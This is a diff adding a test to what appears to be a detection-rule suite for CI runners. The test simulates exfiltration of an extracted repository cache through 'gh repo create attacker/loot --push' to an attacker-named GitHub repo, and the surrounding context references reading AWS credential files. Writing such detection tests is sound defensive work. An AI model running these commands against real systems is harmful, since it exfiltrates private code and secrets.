@@ -162,6 +162,25 @@ describe('what still counts', () => {
     expect(rules(s)).toEqual(['bulk-read-then-push high']);
   });
 
+  it("the same through gh (`gh repo create --push`, its git joining gh's push)", () => {
+    const { s, c, worker } = runnerPod('web');
+    extract(s, c, worker, '/usr/bin/tar', `-xf ${CACHE} -C /tmp/x`);
+    const gh = s.exec(c, '/usr/bin/gh', 'repo create attacker/loot --private --source=/tmp/x/repo --push', {
+      parent: worker,
+      cwd: WORK,
+    });
+    const url = 'https://github.com/attacker/loot.git';
+    const push = s.exec(c, '/usr/bin/git', `-C /tmp/x/repo push --set-upstream ${url} HEAD`, { parent: gh });
+    const pack = s.exec(c, '/usr/bin/git', 'pack-objects --all-progress-implied --revs --stdout', { parent: push });
+    s.read(pack, '/tmp/x/repo/.git/objects/pack/pack-1a2b.pack', 180 * MiB, { op: 'map' }).exit(pack);
+    const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', url, { parent: push });
+    s.connect(helper, '140.82.112.3', 443, { cookie: '2' }).send(helper, '140.82.112.3', 443, 170 * MiB, {
+      cookie: '2',
+    });
+    s.wait(300).exit(helper).exit(push).exit(gh);
+    expect(rules(s)).toEqual(BULK);
+  });
+
   it('a secret extracted from is a secret read', () => {
     const secret = '/home/runner/.aws/credentials';
     expect(restoreThenTagPush('/usr/bin/tar', `-xf ${secret}`, { archive: secret })).toEqual([
